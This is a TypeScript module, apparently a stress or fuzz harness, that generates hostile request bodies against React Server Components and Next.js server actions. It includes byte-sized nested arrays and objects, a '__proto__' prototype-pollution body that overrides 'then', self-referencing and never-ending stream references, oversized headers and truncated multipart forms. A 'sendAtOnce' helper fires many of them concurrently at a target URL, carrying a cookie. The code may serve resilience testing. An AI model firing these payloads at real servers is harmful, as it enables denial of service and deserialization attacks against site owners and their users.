import { type Answer, postAsWritten } from './office-visitor';

type HostileForm = { type: string; body: string };

const BOUNDARY = 'hostile';
const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;
const part = (name: string, value: string, extra = '') =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"${extra}\r\n\r\n${value}\r\n`;
const multipart = (...parts: string[]): HostileForm => ({
  type: MULTIPART,
  body: `${parts.join('')}--${BOUNDARY}--\r\n`,
});

function kinds(bytes: number) {
  const many = (text: string) => text.repeat(Math.floor(bytes / text.length));
  const swarm = `[${many('{},')}{}]`;
  const nested = (open: string, close: string) =>
    open.repeat(Math.floor(bytes / (open.length + close.length))) +
    close.repeat(Math.floor(bytes / (open.length + close.length)));
  const states: Readonly<Record<string, string>> = {
    'a swarm of objects': swarm,
    'a swarm of lists': `[${many('[],')}[]]`,
    'lists in one another': nested('[', ']'),
    'objects in one another': nested('{"a":', '}').replace(':}', ':1}'),
    'a long number': `"$n${many('9')}"`,
    'a prototype': '{"__proto__":{"then":"$1:then"},"status":"fresh"}',
    'parts that are sent elsewhere': `[${many('"$2",')}"$2"]`,
    'a path through parts': `"$2${many(':constructor')}"`,
    'a promise of a part': '"$@2"',
    'a map, a set, an iterator': '["$Q2","$W2","$i2"]',
    'an action bound to itself': '"$F2"',
    'a stream that never ends': '"$R2"',
    'no JSON': many('{"a":'),
  };
  const others: Readonly<Record<string, (action: string) => HostileForm>> = {
    'small fields beside no argument': () => multipart(many(part('_1_a', ''))),
    'a file': () => multipart(part('file', many('a'), '; filename="a.bin"\r\nContent-Type: application/octet-stream')),
    'a form cut short': () => ({ type: MULTIPART, body: part('a', many('a')) }),
    'a long header': () => multipart(`--${BOUNDARY}\r\nX-A: ${many('a')}\r\n\r\na\r\n`),
    'no boundary': () => ({ type: 'multipart/form-data', body: many('a') }),
    'the address of a form': () => ({ type: 'application/x-www-form-urlencoded', body: many('a&') }),
    'arguments without a form': () => ({ type: 'text/plain;charset=UTF-8', body: `["$undefined",${swarm}]` }),
    'many actions': (action) =>
      multipart(many(part('$ACTION_REF_1', '') + part('$ACTION_1:0', `{"id":"${action}","bound":null}`))),
    'an action by its name alone': (action) => multipart(part(`$ACTION_ID_${action}`, '')),
  };
  return { states, others };
}

const PARTS = part('1', '"$2"') + part('2', '"$1"') + part('3', '[{}]');

export function hostileForms(action: string, isLive: boolean, bytes: number): Readonly<Record<string, HostileForm>> {
  const withState = (state: string) =>
    isLive
      ? multipart(PARTS, part('_1_email', 'a@exemple.fr'), part('0', `[${state},"$K1"]`))
      : multipart(
          part('$ACTION_REF_1', ''),
          part('$ACTION_1:0', `{"id":"${action}","bound":"$@1"}`),
          part('$ACTION_1:1', `[${state}]`),
          part('email', 'a@exemple.fr'),
        );
  const { states, others } = kinds(bytes);
  return {
    ...Object.fromEntries(Object.entries(states).map(([name, state]) => [name, withState(state)])),
    ...Object.fromEntries(Object.entries(others).map(([name, make]) => [name, make(action)])),
  };
}

type Target = { base: string; path: string; action: string; isLive: boolean; cookie: string };

export const sendAtOnce = (count: number, form: HostileForm, target: Target): Promise<Answer[]> => {
  const { base, path, action, isLive, cookie } = target;
  const headers = {
    origin: base,
    'content-type': form.type,
    'next-action': isLive ? action : undefined,
    cookie: cookie || undefined,
  };
  return Promise.all(Array.from({ length: count }, () => postAsWritten(base, path, headers, form.body)));
};
